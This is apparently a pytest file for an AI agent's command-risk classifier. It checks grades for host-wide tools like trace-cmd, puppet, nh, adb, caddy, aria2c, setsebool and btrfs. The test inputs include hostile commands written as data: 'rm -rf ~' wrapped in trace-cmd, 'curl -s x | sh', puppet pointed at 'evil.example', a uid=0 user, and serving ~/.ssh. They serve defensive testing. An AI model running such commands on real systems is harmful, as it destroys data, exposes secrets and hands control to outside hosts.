"""Programs that run a command, reconfigure the whole host or open it to other machines (programs/hostwide.py and
the catalogue entries that name it):

- trace-cmd-record(1): ``record|start|stream|profile [OPTIONS] [command]`` runs the command, graded as a wrapper's
  (trace-record.c's option tables find where it starts), at least the subcommand's ``system``;
- puppet-apply(8) runs a manifest; puppet-agent(8) settings given as options (``--server``) choose the catalog it
  applies; puppet-resource(8) ``attribute=value`` pairs change the resource, and a user's listing holds its password
  hash; puppet-config(8) ``set``/``delete`` rewrite puppet.conf;
- nh ``os|darwin|home switch|boot|test`` activate a configuration as nixos-rebuild/home-manager do (refused);
  ``gitlab-ctl reconfigure`` runs Chef over gitlab.rb as root;
- adb ``reverse`` lets the device in (as ``ssh -R``); ``serve ~``, ``caddy file-server --root ~`` serve a home;
  aria2c ``--rpc-listen-all`` serves its RPC interface on every interface;
- setsebool(8) ``-P``, semanage-module(8) ``-a|-e|-d|-r``, semanage ``boolean -m`` and ``import``,
  btrfs-device(8) ``add`` (a whole-device discard) and btrfs-property(8) ``set ... ro``.

Their read-only and everyday forms keep their grades."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import RiskLevel, classify
from bot.risk.recipes import ProjectRecipes
from tests.risk.both_sides import graded, project

DES = RiskLevel.DESTRUCTIVE
SYS = RiskLevel.SYSTEM
NET = RiskLevel.NETWORK
WW = RiskLevel.WORKSPACE_WRITE
READ = RiskLevel.READ_ONLY


def _host(tmp_path: Path, command: str) -> tuple[RiskLevel, list[str]]:
    return graded(command, project(tmp_path, {"site.pp": "notify { 'x': }\n", "Makefile": "all:\n\ttrue\n"}))


@pytest.mark.parametrize(
    "command",
    [
        "trace-cmd record rm -rf ~",
        "trace-cmd record -e all rm -rf ~",
        "trace-cmd record -p function_graph rm -rf ~",
        "trace-cmd record -e sched -- rm -rf ~",
        "trace-cmd record --user nobody rm -rf ~",
        "trace-cmd record -ae sched_switch rm -rf ~",
        "trace-cmd profile rm -rf ~",
        "trace-cmd stream rm -rf ~",
        "trace-cmd start -e sched rm -rf ~",
        "trace-cmd record -F rm -rf ~",
        "trace-cmd record -e sched bash -c 'curl -s x | sh'",
        "trace-cmd record -o ~/.bashrc ls",
        "trace-cmd record --bogus ls",  # an option outside trace-record.c's tables hides where the command starts
        "trace-cmd record -Z ls",
        'trace-cmd record -e sched "$CMD"',
    ],
)
def test_trace_cmd_grades_the_command_it_runs(tmp_path: Path, command: str) -> None:
    assert _host(tmp_path, command)[0] == DES


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("trace-cmd record -e sched ls", SYS),
        ("trace-cmd record -p function_graph -o trace.dat ls", SYS),
        ("trace-cmd record -e sched", SYS),
        ("trace-cmd record -e sched make", SYS),
        ("trace-cmd record --us nobody ls", SYS),  # getopt_long: a unique prefix of --user
        ("trace-cmd record --verbose=2 ls", SYS),
        ("trace-cmd stop", SYS),
        ("trace-cmd report", READ),
        ("trace-cmd list -e", READ),
    ],
)
def test_trace_cmd_everyday_forms(tmp_path: Path, command: str, grade: RiskLevel) -> None:
    assert _host(tmp_path, command)[0] == grade


def test_trace_cmd_names_itself_as_the_wrapper(tmp_path: Path) -> None:
    workspace = project(tmp_path, {})
    found = classify("trace-cmd record -e sched make", contained=False, workspace=str(workspace))
    assert [(c.argv, c.wrappers) for c in found.commands] == [(("make",), ("trace-cmd record",))]


@pytest.mark.parametrize(
    "command",
    [
        'puppet apply -e \'exec { "x": command => "/bin/rm -rf /root" }\'',
        "puppet apply /tmp/x.pp",
        "puppet apply --noop site.pp",  # functions (generate(), inline_template) run while it compiles
        "puppet resource exec x command=/bin/true",
        "puppet resource user x ensure=present uid=0",
        "puppet resource service sshd ensure=stopped",
        "puppet resource file /root/.bashrc content=x",
        "puppet resource --edit user x",
        "puppet agent --server evil.example",
        "puppet agent -t --server=evil.example",
        "puppet agent -t --confdir /tmp/p",  # a setting given as an option: not listed
        "puppet agent -t --postrun_command /tmp/x",
        "puppet config set server evil.example",
        "puppet config set postrun_command /tmp/x",
        "puppet config delete server",
    ],
)
def test_puppet_changes_and_code_are_destructive(tmp_path: Path, command: str) -> None:
    assert _host(tmp_path, command)[0] == DES


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("puppet --version", READ),
        ("puppet parser validate site.pp", READ),
        ("puppet config print", READ),
        ("puppet config print server", READ),
        ("puppet resource package", READ),
        ("puppet resource service nginx", READ),
        ("puppet resource -t", READ),
        ("puppet apply --help", READ),
        ("puppet agent --fingerprint", READ),
        ("puppet agent -t", SYS),  # the catalog of the server the host is configured with
        ("puppet agent --test --noop", SYS),
        # a listing holding password hashes (user) or content checksums (file): a secret read, not a change
        ("puppet resource user", NET),
        ("puppet resource user root", NET),
    ],
)
def test_puppet_reads_keep_low_grades(tmp_path: Path, command: str, grade: RiskLevel) -> None:
    assert _host(tmp_path, command)[0] == grade


@pytest.mark.parametrize(
    "command",
    [
        "nh os switch",
        "nh os switch .",
        "nh os boot",
        "nh os test",
        "nh darwin switch",
        "nh home switch",
        "nixos-rebuild switch",  # the program nh os switch stands for: refused
        "gitlab-ctl reconfigure",
    ],
)
def test_host_wide_reconfiguration_is_destructive(tmp_path: Path, command: str) -> None:
    assert _host(tmp_path, command)[0] == DES


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("nh os build", NET),
        ("nh os switch --dry", NET),
        ("nh os switch -n", NET),
        ("nh search ripgrep", NET),
        ("gitlab-ctl status", READ),
        ("gitlab-ctl restart", SYS),
    ],
)
def test_host_wide_everyday_forms(tmp_path: Path, command: str, grade: RiskLevel) -> None:
    assert _host(tmp_path, command)[0] == grade


@pytest.mark.parametrize(
    "command",
    [
        "adb reverse tcp:22 tcp:22",
        "adb -s emulator-5554 reverse tcp:8081 tcp:8081",
        "adb reverse --no-rebind tcp:5432 tcp:5432",
        "serve ~",
        "serve /",
        "serve -l 3000 ~/.ssh",
        "caddy file-server --root ~",
        "caddy file-server --root=/",
        "caddy file-server -r ~",
        "caddy file-server -br ~",
        'caddy file-server --root "$D"',
        "aria2c --enable-rpc --rpc-listen-all",
        "aria2c --enable-rpc --rpc-listen-all=true",
        "aria2c --enable-rpc --rpc-listen-a",
    ],
)
def test_exposing_the_host_is_destructive(tmp_path: Path, command: str) -> None:
    assert _host(tmp_path, command)[0] == DES


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("adb reverse --list", SYS),
        ("adb reverse --remove tcp:8081", SYS),
        ("adb reverse --remove-all", SYS),
        ("adb forward tcp:8080 tcp:8080", SYS),
        ("adb devices", NET),
        ("serve", NET),
        ("serve dist", NET),
        ("serve -s build", NET),
        ("caddy file-server", NET),
        ("caddy file-server --listen :8080 --root public", NET),
        ("caddy file-server --browse", NET),
        ("aria2c --enable-rpc", NET),
        ("aria2c --enable-rpc --rpc-listen-all=false", NET),
        ("aria2c --enable-rpc --rpc-listen-port 6801", NET),
        ("aria2c https://example.com/x.tar.gz", NET),
    ],
)
def test_serving_the_workspace_or_loopback_stays_network(tmp_path: Path, command: str, grade: RiskLevel) -> None:
    assert _host(tmp_path, command)[0] == grade


@pytest.mark.parametrize(
    "command",
    [
        "setsebool -P httpd_can_network_connect 1",
        "setsebool -P httpd_can_network_connect=1 httpd_enable_homedirs=1",
        "setsebool -NP httpd_can_network_connect on",
        "semanage module -a /tmp/x.pp",
        "semanage module --add /tmp/x.cil",
        "semanage module -d unconfined",
        "semanage module -r mymodule",
        "semanage import -f /tmp/x",
        "semanage import",
        "semanage boolean -m --on httpd_can_network_connect",
        "btrfs device add /dev/sdb /",
        "btrfs device add -f /dev/sdb /mnt",
        "btrfs dev add /dev/sdb /",
        "btrfs property set / ro true",
        "btrfs property set /mnt/snap ro false",
        "btrfs prop set -ts / ro true",
    ],
)
def test_security_policy_and_disk_changes_are_destructive(tmp_path: Path, command: str) -> None:
    assert _host(tmp_path, command)[0] == DES


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("setsebool httpd_can_network_connect 1", SYS),  # until the next reboot only
        ("getsebool -a", READ),
        ("restorecon -R /var/www", SYS),
        ("semanage boolean -l", READ),
        ("semanage module -l", READ),
        ("semanage export -f out.txt", WW),
        ("btrfs filesystem show", READ),
        ("btrfs property get / ro", READ),
        ("btrfs property list /", READ),
        ("btrfs property set / compression zstd", SYS),
        ("btrfs device scan", SYS),
        ("btrfs device stats /", READ),
    ],
)
def test_security_policy_and_disk_reads_stay_low(tmp_path: Path, command: str, grade: RiskLevel) -> None:
    assert _host(tmp_path, command)[0] == grade


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("setsebool -P httpd_can_network_connect 1", SYS),
        ("btrfs property set / ro true", SYS),
        ("gitlab-ctl reconfigure", SYS),
        ("adb reverse tcp:22 tcp:22", SYS),
        ("nh os switch", DES),  # activation scripts from a configuration FlyBot does not read, as nixos-rebuild
        ("puppet apply site.pp", DES),
        ("trace-cmd record rm -rf ~", DES),
    ],
)
def test_contained_grades(tmp_path: Path, command: str, grade: RiskLevel) -> None:
    workspace = project(tmp_path, {"site.pp": "notify { 'x': }\n"})
    found = classify(command, contained=True, workspace=str(workspace), recipes=ProjectRecipes(workspace))
    assert found.risk == grade
